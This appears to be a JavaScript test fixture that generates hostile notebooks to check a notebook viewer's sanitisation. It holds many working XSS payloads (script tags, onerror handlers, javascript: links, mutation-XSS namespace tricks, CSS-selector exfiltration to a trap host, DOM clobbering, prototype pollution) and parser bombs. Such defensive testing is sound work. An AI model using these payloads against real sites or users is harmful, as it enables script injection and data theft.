// Attacks for hostile notebooks, and the places of a notebook where each is put.
//
// An attack succeeds when it calls `owned(name)`, a function that the test gives to the page, or tells the page so, reaches TRAP, a host of the
// test's own, or requests a file that the page's host does not have.
/** A host that nothing may reach. */
export const TRAP = 'http://localhost:TRAP_PORT';

/** Code that tells the test, from a frame of another origin as well; without a space or an angle, so that it stands anywhere. */
const run = (name) => {
  const word = `'${name.replaceAll(' ', '_')}'`;
  return `globalThis.owned?owned(${word}):top.postMessage({owned:${word}},'*')`;
};

/** Name to markup. `$` is replaced by code that tells the test. */
const MARKUP = {
  script: '<script>$</script>',
  'script from elsewhere': `<script src="${TRAP}/a.js"></script>`,
  'module script': `<script type="module">import "${TRAP}/m.js"; $</script>`,
  'image error': '<img src=x onerror="$">',
  'image load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="$">',
  'svg load': '<svg onload="$"><circle r="5"/></svg>',
  'svg script': '<svg xmlns="http://www.w3.org/2000/svg"><script>$</script></svg>',
  'svg animation': '<svg><animate onbegin="$" attributeName="x" dur="1s"/></svg>',
  'svg foreign object': '<svg><foreignObject><img src=x onerror="$"></foreignObject></svg>',
  'svg use': `<svg><use href="${TRAP}/u.svg#a"/><image href="${TRAP}/i.png"/></svg>`,
  'frame of markup': '<iframe srcdoc="<script>$</script>"></iframe>',
  'frame of a script address': '<iframe src="javascript:$"></iframe>',
  'frame from elsewhere': `<iframe src="${TRAP}/f.html"></iframe>`,
  'frame of data': '<iframe src="data:text/html,<script>$</script>"></iframe>',
  'object and embed': `<object data="${TRAP}/o"></object><embed src="${TRAP}/e"><object data="data:text/html,<script>$</script>"></object>`,
  'script link': '<a href="javascript:$" id="go">go</a>',
  'script link in disguise': '<a href="java\tscript:$">go</a><a href="&#106;avascript:$">go</a>',
  'data link': '<a href="data:text/html,<script>$</script>">go</a>',
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${TRAP}/r">`,
  'meta refresh to a script': '<meta http-equiv="refresh" content="0;url=javascript:$">',
  'meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>$</script>`,
  form: `<form action="${TRAP}/form" id="f"><input name="x" value="secret" autofocus onfocus="$"></form><script>document.forms[0].submit()</script>`,
  'form button': `<button form="f" formaction="javascript:$" autofocus onfocus="$">press</button><isindex action="javascript:$">`,
  'style import': `<style>@import url("${TRAP}/s.css");</style>`,
  'style exfiltration': `<style>input[value^="a"]{background:url(${TRAP}/a)} *{background:url("${TRAP}/b")} @font-face{font-family:x;src:url(${TRAP}/f.woff)}</style>`,
  'style attribute': `<div style="background:url(${TRAP}/style)">x</div>`,
  'style over the page': '<div style="position:fixed;inset:0;z-index:9999;background:red">gone</div>',
  'link to styles': `<link rel="stylesheet" href="${TRAP}/l.css"><link rel="prefetch" href="${TRAP}/p"><link rel="preload" as="image" href="${TRAP}/q"><link rel="icon" href="${TRAP}/i">`,
  base: `<base href="${TRAP}/"><img src="b.png">`,
  'pictures from elsewhere': `<img src="${TRAP}/1.png"><img srcset="${TRAP}/2.png 2x"><picture><source srcset="${TRAP}/3.png"><img></picture><input type="image" src="${TRAP}/4.png">`,
  'own host': '<img src="/canary.png"><img src="canary/2.png"><link rel="stylesheet" href="/canary.css">',
  'sound and film': `<video src="${TRAP}/v" poster="${TRAP}/p" autoplay onerror="$"></video><audio src="${TRAP}/a" onerror="$"></audio>`,
  'clobbering by id':
    '<div id="app"></div><a id="tandem"></a><a id="tandem" name="save" href="x:"></a><form id="document" name="body"></form>',
  'clobbering by name':
    '<img name="getElementById"><img name="createElement"><form name="location"><input name="href"></form><iframe name="owned"></iframe>',
  'commands of the page':
    '<button data-command="runAll" data-lesson="first" data-cell-id="a" class="gut-run bar-button">Run all</button>',
  'mathematics namespace':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=$&gt;">',
  'svg style namespace': '<svg></p><style><a id="</style><img src=1 onerror=$>">',
  noscript: '<noscript><p title="</noscript><img src=x onerror=$>">',
  template:
    '<template><script>$</script></template><div><template shadowrootmode="open"><img src=x onerror=$></template></div>',
  comment: '<!--><img src=x onerror=$>--><![CDATA[><img src=x onerror=$>]]>',
  'attribute break': '"><img src=x onerror=$><"\' onmouseover=$ x="',
  'open window': `<script>open("javascript:$"); top.location="${TRAP}/top"; location="${TRAP}/self"</script>`,
  'message to the page':
    '<script>parent.postMessage({ready:true,height:1e9,html:"<img src=x onerror=$>"},"*")</script>',
  'details toggle':
    '<details open ontoggle="$"><summary>x</summary></details><marquee onstart="$">x</marquee>',
  'markdown link':
    '[go](javascript:$) [go](<data:text/html,<script>$</script>>) <javascript:$>\n\n[x]: javascript:$\n[x]',
  'markdown picture': `![p](${TRAP}/md.png) ![p](/canary.png) ![p](javascript:$) ![p][r]\n\n[r]: ${TRAP}/ref.png "onerror=$"`,
  'markdown attribute':
    '![x" onerror="$](x) [x](http://a" onmouseover="$ "t" onfocus=$)\n\n```<img src=x onerror=$>\n$\n```',
  mathematics:
    '$$\\href{javascript:$}{x} \\url{javascript:$} \\htmlData{x=<img src=x onerror=$>}{y} \\includegraphics{' +
    TRAP +
    '/tex.png}$$ \\(\\unicode{<img src=x onerror=$>}\\)',
};

/** A cell of code. */
export const code = (fields) => ({
  cell_type: 'code',
  metadata: {},
  source: 'print(1)',
  outputs: [],
  execution_count: null,
  ...fields,
});
/** A cell that shows a bundle. */
export const shown = (data, metadata = {}) =>
  code({ outputs: [{ output_type: 'display_data', data, metadata }] });

export const WIDGET = 'application/vnd.tandem.widget.v1+json';

/** Widgets that say the markup wherever they say something. */
function widget(markup) {
  const state = { description: markup, value: markup, labels: [markup], titles: [markup], tooltip: markup };
  const layout = { width: `url(${TRAP}/w)`, margin: markup, display: 'none;', background: `url(${TRAP}/b)` };
  const one = (kind) => ({
    id: markup,
    kind,
    state: { ...state, index: 0, format: markup },
    layout,
    style: { button_color: markup },
  });
  const kinds = ['HTML', 'Label', 'Button', 'Dropdown', 'Text', 'Image', 'IntSlider', 'constructor', markup];
  const outputs = [{ output_type: 'display_data', data: { 'text/html': markup } }];
  return {
    ...one('VBox'),
    layout: {},
    children: [...kinds.map(one), { ...one('Output'), layout: {}, outputs }],
  };
}

/** Name to a function from markup to the cells (or more) of a notebook. */
const PLACES = {
  'markdown cell': (markup) => [
    { cell_type: 'markdown', metadata: {}, source: `# Title ${markup}\n\n${markup}\n` },
  ],
  'HTML output': (markup) => [shown({ 'text/html': markup, 'text/plain': 'x' })],
  'SVG output': (markup) => [
    shown({
      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="owned('svg')"><foreignObject>${markup}</foreignObject>${markup}</svg>`,
    }),
  ],
  'other outputs': (markup) => [
    shown({ 'text/markdown': markup }),
    shown({ 'text/latex': markup }),
    shown({ [WIDGET]: widget(markup) }),
    shown({ 'application/json': { [markup]: markup, __proto__: { polluted: markup } } }),
    shown({
      'application/javascript': markup,
      'application/vnd.vegalite.v5+json': { data: { url: `${TRAP}/vega.json` }, mark: markup },
    }),
  ],
  'text of runs': (markup) => [
    code({
      outputs: [
        {
          output_type: 'stream',
          name: 'stdout',
          text: `\u001b[31m${markup}\u001b]8;;javascript:owned('osc')\u0007link\u001b]8;;\u0007\r${markup}`,
        },
        {
          output_type: 'error',
          ename: markup,
          evalue: markup,
          traceback: [`  Cell In[1], line 1\n${markup}`, `\u001b[1m${markup}`],
        },
        {
          output_type: 'display_data',
          data: { 'text/plain': markup },
          metadata: { 'text/plain': { width: markup } },
        },
      ],
    }),
  ],
  'names and metadata': (markup) => ({
    name: markup,
    metadata: {
      title: markup,
      authors: [{ name: markup }],
      kernelspec: { name: markup, display_name: markup, language: markup },
    },
    cells: [
      code({
        id: markup,
        metadata: { tags: [markup], name: markup, execution: { 'iopub.status.busy': markup } },
        source: markup,
      }),
      { cell_type: 'raw', metadata: { format: markup }, source: markup },
      {
        cell_type: 'markdown',
        metadata: {},
        source: `![a](attachment:a.svg) ![b](attachment:${encodeURIComponent(markup)})`,
        attachments: {
          'a.svg': { 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg">${markup}</svg>` },
          [markup]: { 'image/png': markup },
        },
      },
    ],
  }),
};

const GRAPH = 'application/vnd.tandem.graph.v1+json';
const TIMING = 'application/vnd.tandem.timing.v1+json';
const deep = (depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** Notebooks that attack the reader of files and the viewers rather than the page's markup. */
function bombs() {
  const markup = `<img src=x onerror="${run('graph')}">`;
  const node = {
    id: markup,
    op: markup,
    label: markup,
    inputs: [markup, -1, 1e9, null],
    shape: [1e308, -5, markup],
    dtype: markup,
  };
  const graph = {
    name: markup,
    stages: [{ name: markup, nodes: [node, node], groups: [markup] }],
    kernels: [{ name: markup, code: markup }],
  };
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
  return {
    'graph document': {
      cells: [
        shown({ [GRAPH]: graph }),
        shown({ [TIMING]: { entries: [{ name: markup, samples: [Number.POSITIVE_INFINITY, -1, markup] }] } }),
      ],
    },
    'prototype names': {
      cells: names.map((name) => ({
        ...code({ id: name, metadata: { [name]: { polluted: true } } }),
        [name]: { polluted: true },
      })),
      metadata: Object.fromEntries(names.map((name) => [name, { polluted: true }])),
    },
    'prototype by text': {
      text: '{"cells":[{"cell_type":"code","__proto__":{"polluted":true},"metadata":{"__proto__":{"polluted":true}},"source":"","outputs":[{"output_type":"display_data","metadata":{},"data":{"__proto__":{"polluted":true},"text/plain":"x"}}],"execution_count":null}],"metadata":{"__proto__":{"polluted":true}},"nbformat":4,"nbformat_minor":5,"__proto__":{"polluted":true}}',
    },
    'huge numbers': {
      text: `{"cells":[{"cell_type":"code","metadata":{"n":1e999999,"m":${'9'.repeat(5000)}},"source":"","outputs":[],"execution_count":1e400}],"metadata":{},"nbformat":4,"nbformat_minor":5}`,
    },
    'deep JSON': {
      text: `{"cells":[],"metadata":{"x":${deep(100_000)}},"nbformat":4,"nbformat_minor":5}`,
      refused: /nests its contents too deeply/,
    },
    'deep output': {
      text: `{"cells":[{"cell_type":"code","metadata":{},"source":"","execution_count":1,"outputs":[{"output_type":"display_data","metadata":{},"data":{"application/json":${deep(300)}}}]}],"metadata":{},"nbformat":4,"nbformat_minor":5}`,
    },
    'deep markdown': {
      cells: [
        {
          cell_type: 'markdown',
          metadata: {},
          source: `${'> '.repeat(3000)}x\n\n${'['.repeat(3000)}\n\n${'*a_'.repeat(3000)}\n\n${'- '.repeat(2000)}`,
        },
      ],
    },
    'a picture that claims 65,535 pixels square': {
      cells: [
        shown(
          {
            'image/png': Buffer.from([
              0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 255, 255, 0, 0, 255,
              255, 8, 6, 0, 0, 0,
            ]).toString('base64'),
          },
          { 'image/png': { width: 1e9, height: 1e9 } },
        ),
      ],
    },
    'a line of a million characters': {
      cells: [code({ outputs: [{ output_type: 'stream', name: 'stdout', text: 'x'.repeat(1_000_000) }] })],
    },
  };
}

/** Every hostile notebook: its name, what is opened, and for those that have to be refused the sentence. */
export function hostileNotebooks(trapPort) {
  const all = [];
  const fill = (value) => JSON.parse(JSON.stringify(value).replaceAll('TRAP_PORT', String(trapPort)));
  const add = (name, { cells, metadata = {}, name: title = name }) => {
    const numbered = cells.map((cell, index) => ({ id: `c${index}`, ...cell }));
    all.push({
      name,
      title,
      text: JSON.stringify(fill({ cells: numbered, metadata, nbformat: 4, nbformat_minor: 5 })),
    });
  };
  for (const [attack, template] of Object.entries(MARKUP)) {
    const markup = template
      .replaceAll('$$', '\u0001')
      .replaceAll('$', run(attack))
      .replaceAll('\u0001', '$$');
    for (const [place, make] of Object.entries(PLACES)) {
      const made = make(fill(markup));
      add(`${attack}, ${place}`, Array.isArray(made) ? { cells: made } : made);
    }
  }
  for (const [name, bomb] of Object.entries(bombs())) {
    if (bomb.text) all.push({ name, title: name, text: bomb.text, refused: bomb.refused });
    else add(name, bomb);
  }
  return all;
}

/** The markup of each attack, for what a run makes. */
export function hostileMarkup(trapPort) {
  return Object.entries(MARKUP).map(([name, template]) => ({
    name,
    markup: template
      .replaceAll('$$', '\u0001')
      .replaceAll('$', run(name))
      .replaceAll('\u0001', '$$')
      .replaceAll('TRAP_PORT', String(trapPort)),
  }));
}
